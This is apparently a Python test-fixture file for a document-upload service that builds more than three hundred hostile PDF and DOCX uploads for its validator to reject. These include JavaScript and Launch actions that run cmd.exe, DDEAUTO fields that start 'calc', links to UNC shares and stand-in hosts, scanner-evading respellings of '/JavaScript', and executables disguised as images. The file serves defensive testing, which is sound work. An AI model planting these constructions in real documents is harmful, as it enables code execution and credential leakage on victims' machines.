"""Three hundred uploads and more that must not do harm, from a table of mutations: what × where it is put × how it is kept.

Each was seen somewhere: in the findings of a review, in public trackers of document software, in the ways that testers
of readers publish. All are made here, on the spot; none does more than name a host that doesn't exist.
"""

import gzip
from collections.abc import Callable
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from papers.tests.files import docxs, pdfs
from papers.tests.files.docxs import a_docx, a_field, document, relationships, types, with_body
from papers.tests.files.drawings import HOSTILE_DRAWINGS, with_a_drawing
from papers.tests.files.far_docxs import far_docxs
from papers.tests.files.far_pdfs import far_pdfs
from papers.tests.files.hostile_docxs import HOSTILE_DOCXS
from papers.tests.files.hostile_pdfs import HOSTILE_PDFS
from papers.tests.files.pdfs import Twist, a_pdf
from papers.tests.files.uploads import Sent, ready

SHARE = "\\\\x.example\\share\\a"
ACTIONS: dict[str, Callable[[], dict[str, object]]] = {
    "a script": lambda: {"S": Name.JavaScript, "JS": String("app.alert(1)")},
    "a program": lambda: {"S": Name.Launch, "F": String("cmd.exe")},
    "a program of Windows": lambda: {"S": Name.Launch, "Win": Dictionary(F=String("cmd.exe"), P=String("/c calc"))},
    "sending": lambda: {"S": Name.SubmitForm, "F": String("https://x.example/")},
    "importing": lambda: {"S": Name.ImportData, "F": String(SHARE)},
    "another document": lambda: {"S": Name.GoToR, "F": String(SHARE), "D": Array([0, Name.Fit])},
    "a document within": lambda: {"S": Name.GoToE, "T": Dictionary(R=Name.C, N=String("a"))},
    "a film": lambda: {"S": Name.Movie, "Operation": Name.Play},
    "a rendition": lambda: {"S": Name.Rendition, "OP": 0},
    "a sound": lambda: {"S": Name.Sound, "Volume": 1.0},
    "rich media": lambda: {"S": Name.RichMediaExecute},
    "a scene": lambda: {"S": Name("/GoTo3DView")},
    "a thread": lambda: {"S": Name.Thread, "F": String(SHARE)},
    "a link that runs": lambda: {"S": Name.URI, "URI": String("javascript:app.alert(1)")},
    "a link to a share": lambda: {"S": Name.URI, "URI": String("file://///x.example/a")},
}


def on_opening(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.OpenAction = action


def on_a_link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdfs.with_an_annotation(Subtype=Name.Link, A=pdf.make_indirect(action))(pdf)


def on_turning_the_page(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.pages[0].AA = Dictionary(O=action)


def on_a_field(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdfs.with_an_annotation(Subtype=Name.Widget, FT=Name.Tx, T=String("a"), AA=Dictionary(K=action))(pdf)


def in_the_outline(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdfs.with_an_outline(pdf)
    del pdf.Root.Outlines.First.Dest
    pdf.Root.Outlines.First.A = action


def after_another(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([action]))


def by_nobody(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.Lost = pdf.make_indirect(Array([pdf.make_indirect(Dictionary(Held=action))]))


CARRIERS = (on_opening, on_a_link, on_turning_the_page, on_a_field, in_the_outline, after_another, by_nobody)
# How the file is kept: whoever looks only at its bytes sees the words in the first of these.
KEPT: dict[str, dict[str, object]] = {
    "plain": {"object_stream_mode": pikepdf.ObjectStreamMode.disable},
    "in streams": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
    "for the web": {"linearize": True},
}


def acting(carrier: Callable[[pikepdf.Pdf, Dictionary], None], action: dict[str, object]) -> Twist:
    return lambda pdf: carrier(pdf, Dictionary(**action))


def acting_pdf(name: str, carrier: Callable[[pikepdf.Pdf, Dictionary], None], kept: str) -> bytes:
    return a_pdf(acting(carrier, ACTIONS[name]()), **KEPT[kept])


def acting_pdfs() -> list[Sent]:
    kept = list(KEPT)
    return [
        Sent(
            f"a PDF acting {carrier.__name__}",
            f"{name}, {kept[(row + column) % len(kept)]}",
            "pdf",
            partial(acting_pdf, name, carrier, kept[(row + column) % len(kept)]),
        )
        for row, name in enumerate(ACTIONS)
        for column, carrier in enumerate(CARRIERS)
    ]


def respelt(word: bytes, spelling: bytes) -> Callable[[], bytes]:
    """A word that a reader understands and a search doesn't find. The other places stay where the list says they are."""

    def make() -> bytes:
        action = (
            b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n"
        )
        objects = [
            action.replace(word, spelling),
            b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
            b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n",
        ]
        return listed(objects)

    return make


def listed(objects: list[bytes]) -> bytes:
    """A PDF of these objects, with its list of where each begins."""
    data, places = b"%PDF-1.7\n", []
    for thing in objects:
        places.append(len(data))
        data += thing
    start = len(data)
    lines = b"".join(b"%010d 00000 n \n" % place for place in places)
    data += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, lines)
    return data + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)


SPELLINGS = {
    "one sign by number": (b"/JavaScript", b"/J#61vaScript"),
    "all signs by number": (b"/JavaScript", b"/" + b"".join(b"#%02x" % sign for sign in b"JavaScript")),
    "the key by number": (b"/OpenAction", b"/Open#41ction"),
    "no blanks": (b"/S /JavaScript /JS (", b"/S/JavaScript/JS("),
    "a comment between": (b"/S /JavaScript", b"/S%a\n/JavaScript"),
    "the script in figures": (b"(app.alert(1))", b"<6170702e616c657274283129>"),
    "lines between": (b"/S /JavaScript", b"/S\r\n\t/JavaScript"),
    "twice, the second counts": (b"/S /JavaScript", b"/S /GoTo /S /JavaScript"),
}

# Relationships that bring something in, by the last words of their type, and the parts from which they may lead.
BRINGING = (
    "attachedTemplate",
    "image",
    "oleObject",
    "package",
    "frame",
    "subDocument",
    "aFChunk",
    "externalLinkPath",
    "mailMergeSource",
    "mailMergeHeaderSource",
    "recipientData",
    "transform",
    "video",
    "audio",
    "font",
)
PARTS = ("document", "settings", "header1", "footnotes", "comments", "numbering", "glossary/document")
TARGETS = ("https://x.example/a", "\\\\x.example\\a", "file:///c:/a", "//x.example/a", "mhtml:https://x.example/a!x")


def bringing(kind: str, part: str, target: str) -> bytes:
    folder, _sign, name = part.rpartition("/")
    place = f"word/{folder}/_rels/{name}.xml.rels" if folder else f"word/_rels/{name}.xml.rels"
    return a_docx({place: relationships((kind, target, "External"))})


def bringing_docxs() -> list[Sent]:
    rows = []
    for row, kind in enumerate(BRINGING):
        for column in range(3):
            part = PARTS[(row + 2 * column) % len(PARTS)]
            target = TARGETS[(row + column) % len(TARGETS)]
            rows.append(
                Sent(f"a DOCX bringing {kind}", f"{part}, {target}", "docx", partial(bringing, kind, part, target))
            )
    return rows


FIELDS = {
    "DDE": "DDE cmd",
    "DDEAUTO": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    "LINK": 'LINK Excel.Sheet.8 "\\\\\\\\x.example\\\\a.xls"',
    "INCLUDETEXT": 'INCLUDETEXT "https://x.example/a"',
    "INCLUDEPICTURE": 'INCLUDEPICTURE "https://x.example/a" \\d',
    "IMPORT": 'IMPORT "\\\\\\\\x.example\\\\a"',
    "INCLUDE": 'INCLUDE "https://x.example/a"',
    "DATABASE": 'DATABASE \\d "\\\\\\\\x.example\\\\a"',
    "RD": 'RD "\\\\\\\\x.example\\\\a"',
    "HYPERLINK": 'HYPERLINK "file:///c:/a.exe"',
}
WRITTEN: dict[str, Callable[[str], str]] = {
    "whole": a_field,
    "cut in three": lambda words: a_field(words[:2], words[2:5], words[5:]),
    "in small letters": lambda words: a_field(f"  {words[:4].lower()}{words[4:]}"),
    "in an attribute": lambda words: f"<w:fldSimple w:instr='{words}'/>",
    "deleted, and tracked": lambda words: a_field(words).replace("instrText", "delInstrText"),
}


def with_a_field(words: str, written: str, part: str) -> bytes:
    body = WRITTEN[written](words)
    if part == "word/document.xml":
        return with_body(body)
    return a_docx({part: f'<w:hdr xmlns:w="{docxs.WORD}">{body}</w:hdr>'})


def fields_of_docxs() -> list[Sent]:
    parts = ("word/document.xml", "word/header1.xml", "word/footnotes.xml")
    return [
        Sent(f"a field {name}", written, "docx", partial(with_a_field, words, written, parts[(row + column) % 3]))
        for row, (name, words) in enumerate(FIELDS.items())
        for column, written in enumerate(WRITTEN)
    ]


def in_another_alphabet(text: str, alphabet: str) -> bytes:
    return text.replace('encoding="UTF-8"', f'encoding="{alphabet}"').encode(alphabet)


HIDDEN = {
    "a macro part in capitals": lambda: a_docx({"word/VBAPROJECT.BIN": b"a"}),
    "macros of a template": lambda: a_docx({"word/vbaData.xml": "<a/>"}),
    "a type of macros by default": lambda: a_docx(
        {"[Content_Types].xml": types().replace("image/png", "application/vnd.ms-office.vbaProject")}
    ),
    "a compound file called a font": lambda: a_docx({"word/fonts/font1.odttf": b"\xd0\xcf\x11\xe0"}),
    "a program called a picture": lambda: a_docx({"word/media/image1.emf": b"MZ\x90\x00\x03"}),
    "a program of Linux": lambda: a_docx({"word/media/image1.jpeg": b"\x7fELF\x02"}),
    "a PDF called a picture": lambda: a_docx({"word/media/image1.jpeg": a_pdf()}),
    "rich text called a picture": lambda: a_docx({"word/media/image1.wmf": b"{\\rtf1{\\object}}"}),
    "a web page called a picture": lambda: a_docx({"word/media/image1.gif": b"<!DOCTYPE html><script>1</script>"}),
    "an archive of another program": lambda: a_docx({"word/media/image1.png": b"Rar!\x1a\x07"}),
    "a packed metafile": lambda: a_docx({"word/media/image1.emz": gzip.compress(b"a")}),
    "a help file": lambda: a_docx({"word/media/a.chm": b"ITSF"}),
    "a shortcut": lambda: a_docx({"word/media/a.lnk": b"L\0\0\0"}),
    "a script of Windows": lambda: a_docx({"word/a.vbs": b"a"}),
    "an application of HTML": lambda: a_docx({"word/a.hta": b"a"}),
    "a worksheet": lambda: a_docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"}),
    "a control's bytes": lambda: a_docx({"word/activeX/activeX1.bin": b"a"}),
    "a task pane": lambda: docxs.with_relationship("webextension", "a.xml", "Internal"),
    "a field in UTF-16": lambda: a_docx(
        {"word/document.xml": in_another_alphabet(document(a_field("DDEAUTO cmd")), "utf-16")}
    ),
    "an object in UTF-16": lambda: a_docx(
        {"word/document.xml": in_another_alphabet(document("<w:object><w:objectEmbed/></w:object>"), "utf-16")}
    ),
    "a document type in UTF-16": lambda: a_docx(
        {"word/styles.xml": '<!DOCTYPE a SYSTEM "file:///a"><a/>'.encode("utf-16")}
    ),
    "a chunk of another format": lambda: with_body('<w:altChunk r:id="r1" xmlns:r="r"/>'),
    "a film of the web": lambda: with_body('<wp15:webVideoPr xmlns:wp15="w" embeddedHtml="a"/>'),
    "a mail merge": lambda: a_docx({"word/settings.xml": "<w:settings xmlns:w='w'><w:mailMerge/></w:settings>"}),
    "a document within": lambda: with_body('<w:subDoc r:id="r1" xmlns:r="r"/>'),
}


def a_pdf_within(*, before: bytes = b"", after: bytes = b"") -> bytes:
    return before + a_pdf() + after


CROOKED = {
    "a web page before": partial(a_pdf_within, before=b"<html><script>1</script></html>"),
    "a picture before": partial(a_pdf_within, before=b"GIF89a"),
    "a script of a shell before": partial(a_pdf_within, before=b"#!/bin/sh\nexit\n"),
    "a web page after": partial(a_pdf_within, after=b"<html></html>"),
    "a program after": partial(a_pdf_within, after=b"MZ\x90"),
    "an archive after": lambda: a_pdf() + a_docx(),
    "padding, and then a word": partial(a_pdf_within, after=bytes(2_000) + b"/JavaScript"),
    "cut in the middle": lambda: a_pdf()[: len(a_pdf()) // 2],
    "a list elsewhere": lambda: a_pdf().replace(b"startxref\n", b"startxref\n9"),
    "no trailer": lambda: a_pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(b"trailer", b"trailor"),
}


def hostile_uploads() -> list[Sent]:
    """All of them; more than three hundred."""
    return [
        *ready("a PDF of the house's own list", "pdf", ((name, data) for name, (data, _why) in HOSTILE_PDFS.items())),
        *ready(
            "a DOCX of the house's own list", "docx", ((name, data) for name, (data, _why) in HOSTILE_DOCXS.items())
        ),
        *(
            Sent("a drawing", name, "docx", partial(with_a_drawing, drawing))
            for name, (drawing, _why) in HOSTILE_DRAWINGS.items()
        ),
        *ready("a DOCX leading out", "docx", ((name, data) for name, (data, _why) in far_docxs().items())),
        *ready("a PDF leading out", "pdf", ((name, data) for name, (data, _why) in far_pdfs().items())),
        *acting_pdfs(),
        *(Sent("a PDF respelt", name, "pdf", respelt(*how)) for name, how in SPELLINGS.items()),
        *bringing_docxs(),
        *fields_of_docxs(),
        *(Sent("a DOCX hiding something", name, "docx", make) for name, make in HIDDEN.items()),
        *(Sent("a PDF that is more than one", name, "pdf", make) for name, make in CROOKED.items()),
    ]
